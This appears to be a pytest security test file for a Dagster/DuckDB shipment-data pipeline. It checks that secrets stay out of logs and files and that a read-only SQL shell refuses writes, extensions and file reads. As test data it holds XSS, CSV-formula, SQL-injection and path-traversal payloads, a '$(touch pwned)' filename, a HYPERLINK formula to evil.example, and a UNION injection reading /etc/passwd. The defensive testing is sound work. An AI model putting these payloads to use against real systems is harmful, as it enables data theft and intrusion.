"""A night on names and cells that mean harm, with secrets in its environment: what harm could have shown, and where.

Here: markup, formulas, SQL and links in names and cells; secrets in everything that a night leaves; the shell.
Add here: another attack, or another place where it or a secret would show.
Keep out: broken files (`tests/corpus`) and redirects of publishers (`tests/sources/test_redirects`).
"""

import csv
import gzip
import html.parser
import json
import re
import shutil
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import dagster as dg
import duckdb
import polars as pl
import pytest

from pipelines.shown import shown_name
from pipelines.warehouse import shell
from tests.integration.conftest import COLUMNS, Finished, Night, plimsoll
from tests.publisher_server import publisher
from tests.webhook import webhook_server

SECRETS = {
    "EIA_API_KEY": "canary-eia-3f9c71",
    "COMTRADE_API_KEY": "canary-comtrade-77aa01",
    "ESTAT_APP_ID": "canary-estat-c0ffee",
    "PLIMSOLL_ALERT_SMTP_PASSWORD": "canary-mail-5eba57",
}
IN_ADDRESS, OF_MIRROR = "canary-webhook-0ddba11", "canary-mirror-b01dface"
CANARIES = [*SECRETS.values(), IN_ADDRESS, OF_MIRROR]

MARKUP = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
IDS = [
    MARKUP, FORMULA, "[click](javascript:alert(1))", "'; DROP TABLE quality.releases; --", "../../../etc/passwd",
    "![x](http://evil.example/x.png)", "{{ 7 * 7 }}${7*7}", "@SUM(A1)", "\"><img src=x onerror=alert(1)>",
]  # fmt: skip
FILES = [
    "<img src=x onerror=alert(1)>.csv", "=1+1.csv", "'; DROP TABLE quality.releases; --.csv", "$(touch pwned).csv",
    "[x](javascript:alert(1)).csv", "a\\..\\..\\up.csv", "| a | b |.csv",
]  # fmt: skip


def a_file(path: Path, ids: list[str]) -> None:
    """Good rows with these ids, whose vessel and grade are markup, and a bad row whose raw text is."""
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, [*COLUMNS.split(","), "vessel_name", "vessel_imo"], restval="")
        writer.writeheader()
        good = {"loading_date": "2023-06-10", "hs_code": "2709.00", "origin_country": "RU", "destination_country": "JP"}
        good |= {"quantity": "700000", "quantity_unit": "bbl", "value": "49000000", "currency": "USD"}
        good |= {"vessel_name": f"{FORMULA}{MARKUP}", "vessel_imo": "9074729"}
        for number, shipment_id in enumerate(ids):
            writer.writerow(good | {"shipment_id": shipment_id, "grade": f"{MARKUP}{number}"})
        writer.writerow(good | {"shipment_id": "bad", "quantity": MARKUP})


@dataclass(frozen=True)
class Hostile:
    """A home after the night, what it said, and the arguments of every process that was seen meanwhile."""

    home: Path
    said: Finished
    arguments: set[str]

    def rows(self, sql: str) -> list[tuple]:
        with duckdb.connect(str(self.home / "warehouse" / "warehouse.duckdb"), read_only=True) as connection:
            return connection.execute(sql).fetchall()

    def markdown(self) -> list[str]:
        """Every text that Dagster's pages show as Markdown, out of its history."""
        with dg.DagsterInstance.from_config(str(self.home / "dagster_home")) as instance:
            (run,) = instance.get_runs()
            events = [
                record.event_log_entry.dagster_event for record in instance.get_records_for_run(run.run_id).records
            ]
        found = []
        for event in filter(None, events):
            data = event.event_specific_data
            metadata = getattr(getattr(data, "materialization", data), "metadata", {}) or {}
            found += [value.md_str for value in metadata.values() if isinstance(value, dg.MarkdownMetadataValue)]
        return found


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    home = tmp_path_factory.mktemp("hostile")
    landing = home / "landing" / "shipments"
    landing.mkdir(parents=True)
    a_file(landing / "cargoes.csv", IDS)
    for number, name in enumerate(FILES):
        a_file(landing / name, [f"F{number}"])
    (landing / "passwd.csv").symlink_to("/etc/passwd")
    seen: set[str] = set()
    done = threading.Event()

    def watch() -> None:
        while not done.is_set():
            for process in Path("/proc").glob("[0-9]*/cmdline"):
                try:
                    seen.add(process.read_bytes().decode(errors="replace"))
                except OSError:  # it has ended
                    continue
            time.sleep(0.05)

    watching = threading.Thread(target=watch)
    watching.start()
    with publisher() as server, webhook_server() as hook:
        # A publisher that says the key of whoever asks, well and badly.
        for path, name in (
            ("/api.eia.gov/v2/petroleum/pri/spt/data/", "EIA_API_KEY"),
            ("/api.e-stat.go.jp/rest/3.0/app/json/getStatsData", "ESTAT_APP_ID"),
            ("/comtradeapi.un.org/data/v1/get/C/M/HS", "COMTRADE_API_KEY"),
        ):
            server.says(path, json.dumps({"response": {"data": [], "total": "0"}, "params": {"key": SECRETS[name]}}))
        said = plimsoll(
            "nightly", home=home, PLIMSOLL_MIRROR=server.url.replace("//", f"//user:{OF_MIRROR}@"),
            PLIMSOLL_HISTORY_FROM="2026-10-01", PLIMSOLL_ALERT_WEBHOOK=f"{hook.url}/{IN_ADDRESS}",
            PLIMSOLL_ALERT_SMTP="smtp+starttls://127.0.0.1:9", PLIMSOLL_ALERT_FROM="a@example.org",
            PLIMSOLL_ALERT_TO="b@example.org", PLIMSOLL_ALERT_SMTP_USER="a", **SECRETS,
        )  # fmt: skip
        asked = repr(server.asked)
    done.set()
    watching.join()
    # Or nothing was tried: the keys were sent, and the alert.
    assert all(SECRETS[name] in asked for name in ("EIA_API_KEY", "COMTRADE_API_KEY"))
    assert [path for path, _ in hook.seen] == [f"/{IN_ADDRESS}"]
    yield Hostile(home, said, seen)


class TestSecrets:
    def test_on_the_terminal(self, hostile: Hostile) -> None:
        assert hostile.said.code == 0, hostile.said.err
        assert "The alert was not sent: " in hostile.said.err
        for canary in CANARIES:
            assert canary not in hostile.said.out + hostile.said.err

    def test_in_arguments_of_processes(self, hostile: Hostile) -> None:
        assert any("pipelines.cli\0nightly" in arguments for arguments in hostile.arguments)
        assert not [arguments for arguments in hostile.arguments if any(canary in arguments for canary in CANARIES)]

    def test_in_any_file(self, hostile: Hostile) -> None:
        """As bytes, also packed: logs and history of Dagster, the journal of landing, the report, release.json."""
        names = set()
        for path in hostile.home.rglob("*"):
            if path.is_symlink() or not path.is_file():
                continue
            content = path.read_bytes()
            content += gzip.decompress(content) if content.startswith(b"\x1f\x8b") else b""
            assert not [canary for canary in CANARIES if canary.encode() in content], path
            names.add(path.suffix)
        assert {".jsonl", ".json", ".html", ".db", ".duckdb"} <= names

    def test_in_any_table(self, hostile: Hostile) -> None:
        """Parquet and DuckDB pack their text."""
        frames = [
            str(pl.read_parquet(path).rows()) for path in (hostile.home / "warehouse" / "tables").rglob("*.parquet")
        ]
        tables = hostile.rows("SELECT schema_name || '.' || table_name FROM duckdb_tables()")
        frames += [str(hostile.rows(f"SELECT * FROM {name}")) for (name,) in tables]
        assert not [canary for canary in CANARIES if any(canary in frame for frame in frames)]


class TestNamesAndCells:
    def test_are_published_as_they_are(self, hostile: Hostile) -> None:
        ids = {shipment_id for (shipment_id,) in hostile.rows("SELECT shipment_id FROM staging.declared_shipments")}
        assert ids == {*IDS, *(f"F{number}" for number in range(len(FILES)))}
        files = {file for (file,) in hostile.rows("SELECT file FROM quality.input_files WHERE outcome = 'read'")}
        assert files == {"cargoes.csv", *(shown_name(Path(name)) for name in FILES)}
        assert hostile.rows("SELECT count(*) FROM quality.releases") == [(1,)]

    def test_links_lead_nowhere(self, hostile: Hostile) -> None:
        ((outcome, message),) = hostile.rows(
            "SELECT outcome, message FROM quality.input_files WHERE file = 'passwd.csv'"
        )
        assert outcome == "refused"
        assert "this is a link" in message
        tables = hostile.rows("SELECT schema_name || '.' || table_name FROM duckdb_tables()")
        assert not any("root:x:" in str(hostile.rows(f"SELECT * FROM {name}")) for (name,) in tables)

    def test_in_the_report(self, hostile: Hostile) -> None:
        """No element, attribute or address of the page comes out of a name."""
        page = (hostile.home / "warehouse" / "report" / "report.html").read_text(encoding="utf-8")
        assert "alert(1)" in page  # or nothing was tried
        found: list[str] = []

        class Elements(html.parser.HTMLParser):
            def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
                bad = [name for name, value in attrs if name.startswith("on") or "javascript:" in (value or "").lower()]
                is_picture = tag == "img" and (dict(attrs)["src"] or "").startswith("data:image/")
                if bad or (tag in ("script", "img", "iframe", "object", "embed", "form") and not is_picture):
                    found.append(f"{tag} {attrs}")

        Elements().feed(page)
        assert found == []

    def test_on_the_pages_of_dagster(self, hostile: Hostile) -> None:
        texts = hostile.markdown()
        assert len(texts) >= 2
        assert any("alert" in text for text in texts)  # or nothing was tried
        for text in texts:
            assert not re.search(r"(?<!\\)<(script|img|/script)", text)
            assert not re.search(r"(?<!\\)\]\((javascript|http://evil)", text)

    def test_no_command_was_run(self, hostile: Hostile) -> None:
        assert not list(hostile.home.rglob("pwned"))
        assert not (Path.cwd() / "pwned").exists()

    def test_in_files_for_spreadsheets(self, hostile: Hostile, tmp_path: Path) -> None:
        cargoes = hostile.home / "landing" / "shipments" / "cargoes.csv"
        assert plimsoll("assess", cargoes, "--out", tmp_path / "v.csv", home=tmp_path).code == 1
        for name in ("v.csv", "v.rejected.csv"):
            with (tmp_path / name).open(encoding="utf-8", newline="") as file:
                cells = [cell for row in csv.reader(file) for cell in row]
            assert not [
                cell for cell in cells if cell.startswith(("=", "@", "+", "\t", "\r")) or re.match(r"-[^0-9]", cell)
            ]
        assert "'=HYPERLINK" in (tmp_path / "v.csv").read_text(encoding="utf-8")

    def test_explained(self, hostile: Hostile) -> None:
        done = plimsoll("explain", MARKUP, home=hostile.home)
        assert done.code == 0
        assert plimsoll("explain", "' OR 1=1 --", home=hostile.home).code == 1


# Every way that DuckDB has to write, attach, install, set, or read what is not in the file.
ATTACKS = """
COPY (SELECT 1) TO '{there}/out.csv'
COPY marts.verdict_counts TO '{beside}/out.csv'
COPY marts.verdict_counts FROM '{there}/secret.csv'
COPY FROM DATABASE warehouse TO warehouse
EXPORT DATABASE '{there}/exported'
IMPORT DATABASE '{there}'
PRAGMA import_database('{there}')
ATTACH '{there}/other.duckdb' AS other
ATTACH ':memory:' AS other
DETACH warehouse
USE memory
INSTALL httpfs
FORCE INSTALL httpfs FROM community
LOAD httpfs
LOAD '{there}/x.duckdb_extension'
UPDATE EXTENSIONS
SELECT * FROM read_csv('{there}/secret.csv')
SELECT * FROM read_csv_auto('{beside}/secret.csv')
SELECT * FROM sniff_csv('{there}/secret.csv')
SELECT * FROM read_text('{there}/secret.csv')
SELECT * FROM read_blob('{there}/secret.csv')
SELECT * FROM read_json('{there}/secret.csv')
SELECT * FROM read_json_objects('{there}/secret.csv')
SELECT * FROM read_ndjson_auto('{there}/secret.csv')
SELECT * FROM read_parquet('{beside}/secret.csv')
SELECT * FROM parquet_metadata('{there}/secret.csv')
SELECT * FROM parquet_schema('{there}/secret.csv')
SELECT * FROM read_duckdb('{there}/other.duckdb')
SELECT * FROM read_xlsx('{there}/secret.xlsx')
SELECT * FROM '{there}/secret.csv'
FROM '{there}/other.duckdb'
FROM read_csv('/dev/stdin')
SELECT * FROM glob('{there}/*')
SELECT * FROM read_csv('https://example.org/a.csv')
SELECT * FROM 's3://bucket/a.parquet'
SELECT * FROM sqlite_scan('{there}/x', 't')
SELECT * FROM query_table('{there}/secret.csv')
SELECT * FROM query('SELECT * FROM read_csv(''{there}/secret.csv'')')
SELECT * FROM query('FROM enable' || '_logging(storage := ''file'', storage_path := ''{there}/log'')')
SELECT * FROM "query" /* here */ -- and there
 ('SELECT 1')
SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT * FROM read_csv(''{there}/secret.csv'')'))
PRAGMA json_execute_serialized_sql(json_serialize_sql('SELECT 1'))
SELECT getenv('HOME')
SELECT * FROM frame_of_python
SELECT * FROM arrow_scan(1, 2, 3)
SELECT * FROM pandas_scan(1)
SET enable_external_access = true
SET lock_configuration = false
RESET lock_configuration
SET temp_directory = '{there}'
SET home_directory = '{there}'
SET extension_directory = '{there}'
SET VARIABLE x = 1
PRAGMA enable_profiling = 'json'
PRAGMA profiling_output = '{there}/profile.json'
SELECT * FROM enable_profiling(format := 'json', save_location := '{there}/profile.json')
CALL enable_logging('QueryLog', storage := 'file', storage_path := '{there}/log')
SELECT * FROM system.main."enable_logging"('QueryLog')
CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')
CREATE PERSISTENT SECRET s (TYPE http)
CREATE TABLE t AS SELECT 1
CREATE TEMP TABLE t AS SELECT 1
CREATE TEMP MACRO m() AS TABLE SELECT 1
CREATE TEMP VIEW v AS SELECT * FROM read_csv('{there}/secret.csv')
INSERT INTO quality.releases SELECT * FROM quality.releases
UPDATE quality.releases SET run_id = 'x'
DELETE FROM quality.releases
TRUNCATE quality.releases
DROP TABLE quality.releases
ALTER TABLE quality.releases RENAME TO r
COMMENT ON TABLE quality.releases IS 'x'
WITH gone AS (DELETE FROM quality.releases RETURNING *) SELECT * FROM gone
BEGIN
CHECKPOINT
VACUUM
PREPARE p AS COPY (SELECT 1) TO '{there}/out.csv'
EXECUTE p
EXPLAIN ANALYZE COPY (SELECT 1) TO '{there}/out.csv'
EXPLAIN ANALYZE INSERT INTO quality.releases SELECT * FROM quality.releases
EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1
EXPLAIN ANALYZE SELECT * FROM read_csv('{there}/secret.csv')
SELECT 1; COPY (SELECT 1) TO '{there}/out.csv'
SELECT 1;; DROP TABLE quality.releases;
/* SELECT */ COPY (SELECT 1) TO '{there}/out.csv'
"""


@pytest.fixture(scope="module")
def published(night: Night, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of a published file: what one connection of a process forbids holds for all others to the same file."""
    return Path(shutil.copy(night.warehouse, tmp_path_factory.mktemp("published")))


@pytest.mark.parametrize("attack", re.split(r"\n(?! )", ATTACKS.strip()))
def test_the_shell_only_reads_the_file(
    attack: str, published: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    frame_of_python = pl.DataFrame({"a": ["canary"]})
    monkeypatch.chdir(tmp_path)
    (tmp_path / "secret.csv").write_text("a,b\ncanary,1\n", encoding="utf-8")
    with duckdb.connect(str(tmp_path / "other.duckdb")) as other:
        other.execute("CREATE TABLE t AS SELECT 'canary' AS a")
    beside = published.parent
    before = {path: path.stat().st_mtime_ns for folder in (tmp_path, beside) for path in folder.rglob("*")}
    with pytest.raises(shell.SqlError) as refused:
        shell.run_one(published, attack.format(there=tmp_path, beside=beside))
    assert "canary" not in str(refused.value) + capsys.readouterr().out
    assert {path: path.stat().st_mtime_ns for folder in (tmp_path, beside) for path in folder.rglob("*")} == before
    assert frame_of_python.height == 1


def test_nothing_in_the_published_file_reaches_out_of_it(published: Path) -> None:
    """Opened by anyone in any program: no macro or view reads, writes, attaches or installs anything."""
    with duckdb.connect(str(published), read_only=True) as connection:
        macros = connection.execute("SELECT macro_definition FROM duckdb_functions() WHERE NOT internal").fetchall()
        views = connection.execute("SELECT sql FROM duckdb_views() WHERE NOT internal").fetchall()
        secrets = connection.execute("SELECT count(*) FROM duckdb_secrets()").fetchall()
    assert macros
    reaching = r"(?i)\b(read_|scan_|glob|copy|attach|install|load|getenv|query|query_table|http|s3:)\w*\s*\("
    assert not [text for (text,) in [*macros, *views] if re.search(reaching, text or "")]
    assert secrets == [(0,)]


def test_arguments_of_macros_are_values(published: Path) -> None:
    attack = "US'') UNION SELECT * FROM read_csv(''/etc/passwd'') --"
    with duckdb.connect(str(published), read_only=True) as connection:
        rows = connection.execute(f"SELECT * FROM cap_on('{attack}', 'crude', DATE '2023-06-10')").fetchall()
    assert rows == []
